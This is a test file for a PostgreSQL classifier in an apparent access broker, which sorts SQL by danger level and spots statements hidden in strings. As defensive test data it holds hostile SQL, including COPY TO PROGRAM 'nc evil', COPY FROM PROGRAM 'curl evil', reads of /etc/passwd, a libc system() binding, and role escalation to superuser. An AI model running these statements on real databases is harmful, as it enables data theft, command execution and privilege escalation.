// The PostgreSQL classifier (issue 3): every kind that applies, tables as written, SQL inside SQL, what stays
// unknown; the literal-normalised cache never answers differently from a fresh parse; and no amount of
// comments, case, parentheses or harmless company makes a dangerous statement look less dangerous.
import fc from 'fast-check';
import { parseSync } from 'libpg-query';
import { beforeAll, describe, expect, it } from 'vitest';
import { classifyPostgres } from '../../broker/policy/classify-postgres.js';
import { classify, loadPostgresParser, mostSevere } from '../../broker/policy/index.js';
import { Lru } from '../../broker/policy/lru.js';
import { classifyPostgresShaped } from '../../broker/policy/pg-cache.js';
import { pgLiteralKey } from '../../broker/policy/pg-literal-key.js';
import { KINDS, type Kind } from '../../broker/types.js';

beforeAll(async () => {
  await loadPostgresParser();
});

const severity = (k: Kind): number => KINDS.indexOf(k);
const sorted = (ks: readonly Kind[]): Kind[] => [...ks].sort((a, b) => severity(a) - severity(b));
/** The most severe kind over every statement of a string: what decides whether any of it runs. */
const worst = (sql: string): Kind => mostSevere(classifyPostgres(sql).statements.flatMap((s) => s.kinds));

// [sql, kinds (one statement), tables (omitted: not checked)]
type Row = [string, Kind[], string[]?];

const read: Row[] = [
  ['SELECT 1', ['read'], []],
  ['select * from Users', ['read'], ['users']],
  ['SELECT * FROM "Users"', ['read'], ['users']],
  ['SELECT * FROM Public.Accounts a JOIN s2.t2 USING (id)', ['read'], ['public.accounts', 's2.t2']],
  ['TABLE t', ['read'], ['t']],
  ['VALUES (1), (2)', ['read'], []],
  ['SHOW search_path', ['read'], []],
  ['SHOW ALL', ['read'], []],
  ['EXPLAIN SELECT * FROM t', ['read'], ['t']],
  ['EXPLAIN DELETE FROM t', ['read'], ['t']],
  ['EXPLAIN (ANALYZE false) DELETE FROM t', ['read'], ['t']],
  ['EXPLAIN (ANALYZE off, COSTS off) UPDATE t SET a = 1', ['read'], ['t']],
  ['EXPLAIN (ANALYZE 0) TRUNCATE_ME_NOT', ['unknown']], // EXPLAIN of a non-statement does not parse
  ['EXPLAIN EXECUTE p', ['read'], []],
  ['BEGIN', ['read']],
  ['START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE', ['read']],
  ['SAVEPOINT s', ['read']],
  ['ROLLBACK TO SAVEPOINT s', ['read']],
  ['COMMIT', ['read']],
  ['SET search_path = app, public', ['read']],
  ["SET LOCAL statement_timeout = '5s'", ['read']],
  ["SET TIME ZONE 'UTC'", ['read']],
  ['SET TRANSACTION READ ONLY', ['read']],
  ["SET client_encoding = 'UTF8'", ['read']],
  ['SET standard_conforming_strings = on', ['read']],
  ['RESET ALL', ['read']],
  ['DISCARD PLANS', ['read']],
  // A session reset (pools, GUI tools): RESET SESSION AUTHORIZATION / RESET ALL go back to the broker's own login role.
  ['DISCARD ALL', ['read']],
  ['DISCARD TEMP', ['read']],
  ['DISCARD SEQUENCES', ['read']],
  ['DEALLOCATE ALL', ['read']],
  ['PREPARE q(int) AS SELECT $1', ['read']],
  // pg_dump: the lock every SELECT takes, on each table it dumps.
  ['LOCK TABLE public.t IN ACCESS SHARE MODE', ['read'], ['public.t']],
  // pg_dump 15.8+: set_config of the name column of pg_settings rows a WHERE clause restricts to literal names.
  ["SELECT set_config(name, 'view, foreign-table', false) FROM pg_settings WHERE name = 'restrict_nonsystem_relation_kind'", ['read'], ['pg_settings']],
  ["SELECT pg_catalog.set_config(s.name, 'x', false) FROM pg_catalog.pg_settings s WHERE s.name IN ('work_mem', 'search_path')", ['read']],
  ["SELECT set_config(pg_settings.name, '1MB', true) FROM pg_settings WHERE 'work_mem' = pg_settings.name", ['read']],
  // pg_dump's catalog reads: pg_subscription without subconninfo (its query when not connected as a superuser).
  [
    'SELECT count(*) FROM pg_subscription WHERE subdbid = (SELECT oid FROM pg_database WHERE datname = current_database())',
    ['read'],
    ['pg_subscription', 'pg_database'],
  ],
  ['SELECT s.tableoid, s.oid, s.subname, s.subowner, s.subslotname, s.subpublications FROM pg_catalog.pg_subscription s', ['read']],
  ['COPY pg_subscription (subname, subenabled) TO STDOUT', ['read']],
  ['SELECT oid, lomowner, lomacl FROM pg_largeobject_metadata', ['read']],
  ['DECLARE c CURSOR WITH HOLD FOR SELECT * FROM t', ['read'], ['t']],
  ['FETCH 10 FROM c', ['read']],
  ['MOVE NEXT IN c', ['read']],
  ['CLOSE c', ['read']],
  ['DEALLOCATE p', ['read']],
  ['LISTEN ch', ['read']],
  ["NOTIFY ch, 'x'", ['read']],
  ['WITH x AS (SELECT * FROM t) SELECT * FROM x', ['read'], ['t']],
  ["SELECT set_config('search_path', 'app', false)", ['read']],
  ["SELECT cursor_to_xml('c', 10, true, false, '')", ['read']], // a FETCH from a cursor admitted when declared
  ["SELECT table_to_xml('Public.\"Secrets\"', true, false, '')", ['read'], ['public.secrets']],
  ["SELECT query_to_xml('SELECT * FROM secrets', true, false, '')", ['read'], ['secrets']],
  ['COPY t TO STDOUT', ['read'], ['t']],
  ['COPY (SELECT a FROM t WHERE b) TO STDOUT WITH (FORMAT csv)', ['read'], ['t']],
];

/** Strings, comments, dollar quotes and quoted identifiers never count. */
const disguises: Row[] = [
  ["SELECT 'DROP TABLE x'", ['read'], []],
  ['SELECT $$DROP TABLE x$$', ['read'], []],
  ['SELECT $x$ $$; DROP TABLE t; $$ $x$', ['read'], []],
  ['select * from drop_log', ['read'], ['drop_log']],
  ['-- DROP TABLE x\nSELECT 1', ['read'], []],
  ['/* DROP TABLE x */ SELECT 1', ['read'], []],
  ['SELECT 1 /* /* nested */ ; DROP TABLE t; */', ['read'], []],
  ["SELECT E'\\'; DROP TABLE t; --'", ['read'], []],
  ["SELECT 'it''s; DROP TABLE t'", ['read'], []],
  ["SELECT U&'\\0044ROP TABLE t'", ['read'], []],
  ['SELECT * FROM "DROP"', ['read'], ['drop']],
  ['SELECT "delete" FROM "truncate"', ['read'], ['truncate']],
  ['SELECT * FROM U&"d\\0061t"', ['read'], ['dat']],
  ['SELECT $tag$ DELETE FROM t $tag$ AS "DELETE FROM t"', ['read'], []],
];

const write: Row[] = [
  ['INSERT INTO t VALUES (1)', ['read', 'write'], ['t']],
  ['INSERT INTO t (a) SELECT a FROM s', ['read', 'write'], ['s', 't']],
  ['INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = excluded.a', ['read', 'write'], ['t']],
  ['UPDATE t SET a = 1 WHERE id = 2', ['write'], ['t']],
  ['DELETE FROM t WHERE id = 1', ['write'], ['t']],
  ['DELETE FROM t WHERE id = $1', ['write'], ['t']],
  ['DELETE FROM t WHERE false', ['write'], ['t']], // constantly false: harmless, still a write
  ['DELETE FROM t WHERE 1 = 0', ['write'], ['t']],
  ['DELETE FROM t WHERE 3 IN (1, 2)', ['write'], ['t']],
  ['DELETE FROM t WHERE NULL', ['write'], ['t']],
  ['DELETE FROM t WHERE id = 1 AND 1 = 1', ['write'], ['t']],
  ['DELETE FROM t WHERE CURRENT OF c', ['write'], ['t']],
  ['UPDATE t SET a = 1 FROM u WHERE u.id = t.id', ['write'], ['t', 'u']],
  ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a WHEN NOT MATCHED THEN INSERT VALUES (s.id)', ['write'], ['s', 't']],
  ['COPY t FROM STDIN', ['write'], ['t']],
  ['COPY t (a, b) FROM STDIN WITH (FORMAT csv)', ['write'], ['t']],
  ['SELECT * INTO t2 FROM t', ['write'], ['t', 't2']],
  ['CREATE TABLE t2 AS SELECT * FROM t', ['read', 'write'], ['t', 't2']],
  ['LOCK TABLE t IN ACCESS EXCLUSIVE MODE', ['write'], ['t']],
  ['LOCK TABLE t IN ROW SHARE MODE', ['write'], ['t']],
  ['LOCK t', ['write'], ['t']],
  ['SELECT * FROM t FOR UPDATE', ['write'], ['t']],
  ['SELECT * FROM t FOR SHARE SKIP LOCKED', ['write'], ['t']],
  ["SELECT nextval('s')", ['read', 'write'], []],
  ['WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d', ['read', 'write'], ['t']],
  ['PREPARE p(int) AS UPDATE t SET a = 1 WHERE id = $1', ['write'], ['t']],
  ['EXPLAIN ANALYZE UPDATE t SET a = 1 WHERE id = 1', ['write'], ['t']],
  ['DO $$ BEGIN EXECUTE $q$DELETE FROM t WHERE id = $1$q$ USING 5; END $$', ['read', 'write'], ['t']],
  ['DO $$ DECLARE r record; BEGIN FOR r IN SELECT * FROM t LOOP DELETE FROM u WHERE id = r.id; END LOOP; END $$', ['read', 'write'], ['t', 'u']],
];

const destructive: Row[] = [
  ['DROP TABLE t', ['destructive'], ['t']],
  ['DROP TABLE IF EXISTS s.t, u CASCADE', ['destructive'], ['s.t', 'u']],
  ['DROP INDEX CONCURRENTLY s.i', ['destructive'], ['s.i']],
  ['DROP SEQUENCE seq', ['destructive'], ['seq']],
  ['DROP VIEW v', ['destructive'], ['v']],
  ['DROP MATERIALIZED VIEW mv', ['destructive'], ['mv']],
  ['DROP TRIGGER trg ON s.t', ['destructive'], ['s.t']],
  ['DROP POLICY p ON t', ['destructive', 'privilege'], ['t']],
  ['DROP FUNCTION f(int)', ['destructive'], []],
  ['DROP SCHEMA s CASCADE', ['destructive'], []],
  ['TRUNCATE t, u', ['destructive'], ['t', 'u']],
  ['TRUNCATE TABLE ONLY t RESTART IDENTITY', ['destructive'], ['t']],
  ['DELETE FROM t', ['destructive'], ['t']],
  ['delete from T where 1=1', ['destructive'], ['t']],
  ['DELETE FROM t WHERE true', ['destructive']],
  ['DELETE FROM t WHERE NOT false', ['destructive']],
  ['DELETE FROM t WHERE 2 > 1', ['destructive']],
  ["DELETE FROM t WHERE 'a' = 'a'", ['destructive']],
  ['DELETE FROM t WHERE x = x', ['destructive']],
  ['DELETE FROM t AS a WHERE a.x = x', ['destructive']],
  ['DELETE FROM t WHERE x IS NOT NULL OR true', ['destructive']],
  ['DELETE FROM t WHERE x IS NULL OR x IS NOT NULL', ['destructive']],
  ['DELETE FROM t WHERE NOT (x <> x)', ['destructive']],
  ['DELETE FROM t WHERE 1 IN (1, 2)', ['destructive']],
  ['DELETE FROM t WHERE 1 BETWEEN 0 AND 2', ['destructive']],
  ["DELETE FROM t WHERE 'yes'::boolean", ['destructive']],
  ["DELETE FROM t WHERE 'true'", ['destructive']],
  ['DELETE FROM t WHERE (1 + 1) * 3 = 6', ['destructive']],
  ['DELETE FROM t WHERE 0.1 + 0.2 = 0.3', ['destructive']],
  ['DELETE FROM t WHERE NULL IS NULL', ['destructive']],
  ["DELETE FROM t WHERE now() > '2000-01-01'", ['destructive']], // mentions no column: all rows or none
  ['DELETE FROM t WHERE random() >= 0', ['destructive']],
  ['DELETE FROM t WHERE $1', ['destructive']],
  ['DELETE FROM t WHERE EXISTS (SELECT 1 FROM u)', ['read', 'destructive'], ['t', 'u']],
  ['UPDATE t SET a = 1', ['destructive'], ['t']],
  ['UPDATE t SET a = 1 WHERE true OR id = 5', ['destructive'], ['t']],
  ['UPDATE t SET a = 1 FROM u WHERE u.flag', ['destructive'], ['t', 'u']],
  ['WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', ['read', 'destructive'], ['t']],
  ['EXPLAIN ANALYZE DELETE FROM t', ['destructive'], ['t']],
  ['EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t', ['destructive'], ['t']],
  ['EXPLAIN (ANALYZE true) UPDATE t SET a = 1', ['destructive'], ['t']],
  ['PREPARE p AS DELETE FROM t', ['destructive'], ['t']],
  ['ALTER TABLE t DROP COLUMN a', ['destructive'], ['t']],
  ['ALTER TABLE t DROP CONSTRAINT c', ['destructive'], ['t']],
  ['ALTER TABLE t ALTER COLUMN a DROP DEFAULT', ['destructive'], ['t']],
  ['ALTER TABLE t ALTER COLUMN a TYPE int USING 0', ['destructive'], ['t']],
  ['ALTER DOMAIN d DROP NOT NULL', ['destructive']],
  ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE', ['write', 'destructive'], ['s', 't']],
  ['MERGE INTO t USING s ON true WHEN MATCHED THEN UPDATE SET a = 1', ['write', 'destructive'], ['s', 't']],
  ['CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u', ['ddl', 'destructive'], ['t', 'u']],
  ['CREATE FUNCTION wipe() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DELETE FROM t; END $$', ['ddl', 'destructive'], ['t']],
  ['CREATE OR REPLACE PROCEDURE p() LANGUAGE plpgsql AS $body$ BEGIN TRUNCATE t; END $body$', ['ddl', 'destructive'], ['t']],
  ["CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'DELETE FROM t; SELECT 1'", ['read', 'ddl', 'destructive'], ['t']],
  ['CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM t; SELECT 1; END', ['read', 'ddl', 'destructive'], ['t']],
  ['CREATE FUNCTION trg_fn() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN DELETE FROM audit; RETURN NEW; END $$', ['ddl', 'destructive'], ['audit']],
  // The EXECUTE's expression is itself evaluated (a read), and the literal it yields is classified.
  ["CREATE FUNCTION f() RETURNS void AS $$ BEGIN EXECUTE 'DROP TABLE t'; END $$ LANGUAGE plpgsql", ['read', 'ddl', 'destructive'], ['t']],
  ['DO $$ BEGIN DELETE FROM t; END $$', ['read', 'destructive'], ['t']],
  ["DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$", ['read', 'destructive'], ['t']],
  ["DO $$ BEGIN EXECUTE 'DROP TABLE ' || 't'; END $$", ['read', 'destructive'], ['t']],
  ["DO $$ BEGIN EXECUTE 'DO $x$ BEGIN EXECUTE ''TRUNCATE t''; END $x$'; END $$", ['read', 'destructive'], ['t']],
  ['COPY (DELETE FROM t RETURNING *) TO STDOUT', ['destructive'], ['t']],
  ["SELECT query_to_xml('DELETE FROM t RETURNING 1', true, false, '')", ['read', 'destructive'], ['t']],
];

const ddl: Row[] = [
  ['CREATE TABLE t (a int)', ['ddl'], ['t']],
  ['CREATE TABLE IF NOT EXISTS s.t (LIKE u)', ['ddl'], ['s.t', 'u']],
  ['ALTER TABLE t ADD COLUMN a int', ['ddl'], ['t']],
  ['ALTER TABLE t RENAME TO u', ['ddl'], ['t']],
  ['CREATE INDEX i ON t (a)', ['ddl'], ['t']],
  ['CREATE UNIQUE INDEX CONCURRENTLY i ON t (lower(a))', ['ddl'], ['t']],
  ["COMMENT ON TABLE S.T IS 'x'", ['ddl'], ['s.t']],
  ["COMMENT ON COLUMN t.c IS 'x'", ['ddl'], ['t']],
  ['CREATE VIEW v AS SELECT * FROM t', ['read', 'ddl'], ['t', 'v']],
  ['CREATE MATERIALIZED VIEW mv AS SELECT * FROM t', ['read', 'ddl'], ['mv', 't']],
  ['REFRESH MATERIALIZED VIEW CONCURRENTLY mv', ['ddl'], ['mv']],
  ['VACUUM (ANALYZE) t', ['ddl'], ['t']],
  ['ANALYZE t', ['ddl'], ['t']],
  ['REINDEX TABLE t', ['ddl'], ['t']],
  ['CLUSTER t USING i', ['ddl'], ['t']],
  ['CREATE SEQUENCE s', ['ddl'], ['s']],
  ["CREATE TYPE mood AS ENUM ('a', 'b')", ['ddl'], []],
  ['CREATE SCHEMA s', ['ddl'], []],
  ["CREATE FUNCTION add(a int, b int) RETURNS int LANGUAGE sql IMMUTABLE AS 'SELECT a + b'", ['read', 'ddl'], []],
  ['CREATE FUNCTION one() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$', ['read', 'ddl'], []],
  ['CREATE TRIGGER trg AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION trg_fn()', ['ddl'], ['t']],
];

const privilege: Row[] = [
  ['GRANT SELECT ON t TO bob', ['privilege'], ['t']],
  ['GRANT ALL ON ALL TABLES IN SCHEMA public TO bob', ['privilege'], []],
  ['REVOKE ALL ON t FROM bob', ['privilege'], ['t']],
  ['GRANT admin TO bob', ['privilege']],
  ['CREATE ROLE eve SUPERUSER', ['privilege']],
  ["CREATE USER eve PASSWORD 'x'", ['privilege']],
  ['ALTER ROLE eve WITH SUPERUSER', ['privilege']],
  ['ALTER USER bob SET search_path = x', ['privilege']],
  ['ALTER ROLE bob RENAME TO eve', ['privilege']],
  ['DROP ROLE eve', ['destructive', 'privilege']],
  ['DROP USER IF EXISTS eve', ['destructive', 'privilege']],
  ['SET ROLE postgres', ['privilege']],
  ['SET LOCAL ROLE admin', ['privilege']],
  ['SET ROLE NONE', ['privilege']],
  ['RESET ROLE', ['privilege']],
  ['SET SESSION AUTHORIZATION postgres', ['privilege']],
  ['SET SESSION AUTHORIZATION DEFAULT', ['privilege']],
  ['RESET SESSION AUTHORIZATION', ['privilege']],
  ['SET "ROLE" = \'postgres\'', ['privilege']],
  ['ALTER DEFAULT PRIVILEGES IN SCHEMA s GRANT SELECT ON TABLES TO bob', ['privilege']],
  ['ALTER TABLE t OWNER TO bob', ['ddl', 'privilege'], ['t']],
  ['ALTER FUNCTION f() OWNER TO bob', ['privilege']],
  ['ALTER SCHEMA s OWNER TO bob', ['privilege']],
  ['REASSIGN OWNED BY bob TO alice', ['privilege']],
  ['DROP OWNED BY bob', ['destructive', 'privilege']],
  ['CREATE POLICY p ON t USING (true)', ['privilege'], ['t']],
  ['ALTER TABLE t DISABLE ROW LEVEL SECURITY', ['ddl', 'privilege'], ['t']],
  ['CREATE SCHEMA s AUTHORIZATION bob', ['ddl', 'privilege']],
  ["SELECT set_config('role', 'postgres', false)", ['read', 'privilege']],
  ["SELECT set_config('session_authorization', 'postgres', false)", ['read', 'privilege']],
  ["SELECT pg_catalog.set_config('ROLE', 'x', true)", ['read', 'privilege']],
  ["SELECT set_config(name, 'postgres', false) FROM pg_settings WHERE name = 'role'", ['read', 'privilege']],
  ["SELECT set_config(name, 'x', false) FROM pg_settings WHERE name IN ('work_mem', 'session_authorization')", ['read', 'privilege']],
  ["DO $$ BEGIN PERFORM set_config('role', 'postgres', false); END $$", ['read', 'privilege']],
  ["CREATE FUNCTION f() RETURNS int LANGUAGE sql SET role = 'admin' AS 'SELECT 1'", ['read', 'ddl', 'privilege']],
];

const admin: Row[] = [
  ["ALTER SYSTEM SET work_mem = '1GB'", ['admin']],
  ['ALTER SYSTEM RESET ALL', ['admin']],
  ["COPY t TO '/tmp/x'", ['read', 'admin'], ['t']],
  ["COPY t FROM '/etc/passwd'", ['write', 'admin'], ['t']],
  ["COPY t FROM PROGRAM 'curl evil'", ['write', 'admin'], ['t']],
  ["COPY (SELECT * FROM secrets) TO PROGRAM 'nc evil 80'", ['read', 'admin'], ['secrets']],
  ["select pg_read_file('/etc/passwd')", ['read', 'admin'], []],
  ["SELECT pg_catalog.pg_read_binary_file('x')", ['read', 'admin']],
  ["SELECT * FROM pg_ls_dir('.')", ['read', 'admin'], []],
  ["SELECT pg_stat_file('x')", ['read', 'admin']],
  ['SELECT pg_terminate_backend(123)', ['read', 'admin']],
  ['SELECT pg_cancel_backend(pid) FROM pg_stat_activity', ['read', 'admin'], ['pg_stat_activity']],
  ['SELECT pg_reload_conf()', ['read', 'admin']],
  ["SELECT lo_import('/etc/passwd')", ['read', 'admin']],
  ["SELECT lo_export(1234, '/tmp/x')", ['read', 'admin']],
  ['SELECT lo_get(1234)', ['read', 'admin']],
  ["SELECT pg_file_write('x', 'y', false)", ['read', 'admin']],
  ["SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", ['read', 'admin']],
  ["SELECT dblink_exec('x', 'DROP TABLE t')", ['read', 'admin']],
  ['SELECT pg_promote()', ['read', 'admin']],
  ["SELECT pg_create_logical_replication_slot('s', 'pgoutput')", ['read', 'admin']],
  ['CREATE EXTENSION dblink', ['admin']],
  ['CREATE EXTENSION IF NOT EXISTS plpython3u', ['admin']],
  ["LOAD 'auto_explain'", ['admin']],
  ['CREATE DATABASE d', ['admin']],
  ["ALTER DATABASE d SET work_mem = '1MB'", ['admin']],
  ['DROP DATABASE d', ['destructive', 'admin']],
  ["CREATE TABLESPACE ts LOCATION '/data'", ['admin']],
  ['DROP TABLESPACE ts', ['destructive', 'admin']],
  ["CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p", ['admin']],
  ['CREATE PUBLICATION p FOR ALL TABLES', ['admin']],
  ['CREATE FOREIGN DATA WRAPPER w', ['admin']],
  ['CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw', ['admin']],
  ["CREATE USER MAPPING FOR bob SERVER s OPTIONS (user 'x', password 'y')", ['admin']],
  ['IMPORT FOREIGN SCHEMA public FROM SERVER s INTO local', ['admin']],
  ['DROP SERVER s CASCADE', ['destructive', 'admin']],
  ["CREATE FOREIGN TABLE f (a text) SERVER files OPTIONS (program 'id')", ['ddl', 'admin'], ['f']],
  ["ALTER FOREIGN TABLE f OPTIONS (SET filename '/etc/passwd')", ['ddl', 'admin'], ['f']],
  ['CREATE AGGREGATE a(text) (SFUNC = pg_catalog.pg_read_file, STYPE = text)', ['ddl', 'admin']],
  ["SET plperl.on_plperl_init = 'system(1)'", ['admin']],
  ['SELECT U&"pg_read_fil\\0065"(\'x\')', ['read', 'admin']],
  ['CHECKPOINT', ['admin']],
  ['GRANT pg_execute_server_program TO bob', ['privilege', 'admin']],
  ['SET session_replication_role = replica', ['admin']],
  ["SELECT set_config('log_statement', 'none', false)", ['read', 'admin']],
  ['SELECT * FROM pg_authid', ['read', 'admin'], ['pg_authid']],
  // pg_subscription.subconninfo can hold the publisher's password: whatever may read it is admin.
  ['SELECT s.subname, s.subconninfo FROM pg_subscription s', ['read', 'admin'], ['pg_subscription']],
  ['SELECT * FROM pg_catalog.pg_subscription', ['read', 'admin']],
  ['TABLE pg_subscription', ['read', 'admin']],
  ['SELECT row_to_json(s) FROM pg_subscription s', ['read', 'admin']],
  ['SELECT s.to_json FROM pg_subscription s', ['read', 'admin']], // to_json(s)
  ['SELECT pg_subscription FROM pg_subscription', ['read', 'admin']],
  ['SELECT e FROM pg_subscription AS s(a, b, c, d, e)', ['read', 'admin']],
  ['SELECT count(*) FROM pg_subscription NATURAL JOIN guesses', ['read', 'admin']],
  ['SELECT count(*) FROM pg_subscription JOIN guesses USING (subconninfo)', ['read', 'admin']],
  ['COPY pg_subscription TO STDOUT', ['read', 'admin']],
  ['SELECT x FROM (SELECT subconninfo AS x FROM pg_subscription) q', ['read', 'admin']],
  ['DO $$ BEGIN PERFORM subconninfo FROM pg_subscription; END $$', ['read', 'admin']],
  ["DO $$ DECLARE x text := pg_read_file('/etc/passwd'); BEGIN END $$", ['read', 'admin']],
  ["DO $$ DECLARE y int[]; BEGIN y[pg_read_file('x')::int] := 1; END $$", ['read', 'admin']],
  ["CREATE VIEW v AS SELECT pg_read_file('x')", ['read', 'ddl', 'admin'], ['v']],
  ['ALTER FUNCTION pg_read_file(text) RENAME TO harmless', ['ddl', 'admin']],
  ['CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()', ['admin']],
];

const unknown: Row[] = [
  ['CALL p()', ['unknown']],
  ["CALL s.p(1, 'x')", ['unknown']],
  ['EXECUTE p', ['unknown']],
  ['EXECUTE p(1, 2)', ['unknown']],
  ['EXPLAIN ANALYZE EXECUTE p', ['unknown']],
  ['CREATE TABLE t2 AS EXECUTE p', ['write', 'unknown'], ['t2']],
  ["DO $$ BEGIN EXECUTE format('DROP TABLE %I', 't'); END $$", ['read', 'unknown']],
  ["DO $$ DECLARE q text := 'SELECT 1'; BEGIN EXECUTE q; END $$", ['read', 'unknown']],
  ['DO $$ BEGIN CALL p(); END $$', ['read', 'unknown']],
  ['DO LANGUAGE plperl $$ 1 $$', ['read', 'unknown']],
  ['DO LANGUAGE plpython3u $$ import os $$', ['read', 'admin', 'unknown']],
  ['DO $$ BEGIN undeclared := 1; END $$', ['read', 'unknown']], // would not compile upstream either
  ['CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $$ import os $$', ['ddl', 'admin', 'unknown']],
  ["CREATE FUNCTION sys(text) RETURNS int AS 'libc.so.6', 'system' LANGUAGE c", ['ddl', 'admin', 'unknown']],
  ['CREATE FUNCTION f() RETURNS int LANGUAGE plv8 AS $$ return 1 $$', ['ddl', 'unknown']],
  ["SELECT query_to_xml(q, true, false, '') FROM queries", ['read', 'unknown'], ['queries']],
  ["SELECT query_to_xml_and_xmlschema($1, true, false, '')", ['read', 'unknown']],
  ["SELECT schema_to_xml('public', true, false, '')", ['read', 'unknown']],
  ["SELECT table_to_xml($1, true, false, '')", ['read', 'unknown']],
  ["SELECT set_config($1, 'x', false)", ['read', 'unknown']],
  // Only exactly `… FROM [pg_catalog.]pg_settings WHERE name = '<literal>' | name IN (<literals>)` is evaluated.
  ["SELECT set_config(name, 'x', false) FROM pg_settings WHERE name LIKE 'work%'", ['read', 'unknown']],
  ["SELECT set_config(name, 'x', false) FROM pg_settings WHERE name = 'work_mem' OR true", ['read', 'unknown']],
  ["SELECT set_config(name, 'x', false) FROM pg_settings WHERE name = $1", ['read', 'unknown']],
  ["SELECT set_config(name, 'x', false) FROM pg_settings WHERE name <> 'role'", ['read', 'unknown']],
  ["SELECT set_config(name, 'x', false) FROM pg_settings WHERE name NOT IN ('role')", ['read', 'unknown']],
  ["SELECT set_config(name, 'x', false) FROM pg_settings", ['read', 'unknown']],
  ["SELECT set_config(name, 'x', false) FROM public.pg_settings WHERE name = 'work_mem'", ['read', 'unknown']],
  ["SELECT set_config(name, 'x', false) FROM other WHERE name = 'work_mem'", ['read', 'unknown']],
  ["SELECT set_config(name, 'x', false) FROM pg_settings, other WHERE name = 'work_mem'", ['read', 'unknown']],
  ["SELECT set_config(name, 'x', false) FROM pg_settings AS s(setting, name) WHERE name = 'work_mem'", ['read', 'unknown']],
  ["SELECT set_config(name, 'x', false) FROM pg_settings WHERE name = 'work_mem' ORDER BY 1", ['read', 'unknown']],
  ["SELECT DISTINCT set_config(name, 'x', false) FROM pg_settings WHERE name = 'work_mem'", ['read', 'unknown']],
  ["SELECT set_config(lower(name), 'x', false) FROM pg_settings WHERE name = 'work_mem'", ['read', 'unknown']],
  ["SELECT set_config(x.name, 'x', false) FROM pg_settings s WHERE s.name = 'work_mem'", ['read', 'unknown']],
  ["SELECT 1 FROM pg_settings WHERE name = 'work_mem' AND set_config(name, 'x', false) IS NOT NULL", ['read', 'unknown']],
  ["SELECT (SELECT set_config(name, 'x', false) FROM u) FROM pg_settings WHERE name = 'work_mem'", ['read', 'unknown']],
  ["WITH w AS (SELECT 1) SELECT set_config(name, 'x', false) FROM pg_settings WHERE name = 'work_mem'", ['read', 'unknown']],
  // Prepared statements changed out of the session's sight.
  ["DO $$ BEGIN EXECUTE 'PREPARE q AS SELECT 1'; END $$", ['read', 'unknown']],
  ["DO $$ BEGIN EXECUTE 'DEALLOCATE q'; END $$", ['read', 'unknown']],
  ["EXECUTE q(nextval('s'))", ['write', 'unknown']],
  ["SELECT cron.schedule('* * * * *', 'DELETE FROM t')", ['read', 'unknown']],
  ['SET standard_conforming_strings = off', ['unknown']],
  ["SELECT set_config('standard_conforming_strings', 'off', false)", ['read', 'unknown']],
  ["SET client_encoding = 'SJIS'", ['unknown']],
  ["SET NAMES 'BIG5'", ['unknown']],
  ['selec 1', ['unknown'], []],
  ["SELECT 'unterminated", ['unknown'], []],
  ['SELECT 1\u0000; DROP TABLE t', ['unknown'], []],
];

/** CTE names are not tables; everything else that is written as a relation is. */
const cteTables: Row[] = [
  ['WITH d AS (SELECT 1) SELECT * FROM d', ['read'], []],
  ['WITH d AS (SELECT 1) SELECT * FROM d, public.d', ['read'], ['d', 'public.d']], // written qualified too: kept
  ['WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a', ['read'], ['b']], // b is not visible in a
  ['WITH RECURSIVE a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a', ['read'], []],
  ['SELECT * FROM d, (WITH d AS (SELECT 1) SELECT * FROM d) x', ['read'], ['d']], // the outer d is a table
  ['WITH t AS (SELECT 1) DELETE FROM t', ['read', 'destructive'], ['t']], // a DML target is always a table
  ['WITH s AS (SELECT 1 AS id) MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE', ['read', 'write', 'destructive'], ['t']],
  ['WITH x AS (SELECT * FROM t) INSERT INTO log SELECT * FROM x', ['read', 'write'], ['log', 't']],
];

const groups: Record<string, Row[]> = { read, disguises, write, destructive, ddl, privilege, admin, unknown, cteTables };

describe('classifyPostgres: one statement', () => {
  for (const [name, rows] of Object.entries(groups)) {
    describe(name, () => {
      it.each(rows)('%s', (sql, kinds, tables) => {
        const c = classifyPostgres(sql);
        expect(c.statements).toHaveLength(1);
        const st = c.statements[0]!;
        expect(sorted(st.kinds)).toEqual(sorted(kinds));
        if (tables) expect([...st.tables].sort()).toEqual([...tables].sort());
      });
    });
  }

  it('covers at least 100 statements', () => {
    expect(Object.values(groups).flat().length).toBeGreaterThanOrEqual(100);
  });

  it('reports kinds least to most severe, so the last one is what rules see', () => {
    const st = classifyPostgres("WITH d AS (DELETE FROM t RETURNING *) SELECT pg_read_file('x') FROM d").statements[0]!;
    expect(st.kinds).toEqual(['read', 'destructive', 'admin']);
    expect(mostSevere(st.kinds)).toBe('admin');
  });

  it('a parse error is one unknown statement carrying the message', () => {
    const c = classifyPostgres('SELECT 1; selec 2');
    expect(c.error).toMatch(/syntax error/);
    expect(c.statements).toEqual([{ sql: 'SELECT 1; selec 2', kinds: ['unknown'], tables: [] }]);
  });

  it('follows SQL inside SQL only so deep, then gives up as unknown', () => {
    let sql = 'DROP TABLE t';
    for (let i = 0; i < 10; i++) sql = `DO $x${i}$ BEGIN EXECUTE ${`'${sql.replace(/'/g, "''")}'`}; END $x${i}$`;
    const kinds = classifyPostgres(sql).statements[0]!.kinds;
    expect(mostSevere(kinds)).toBe('unknown');
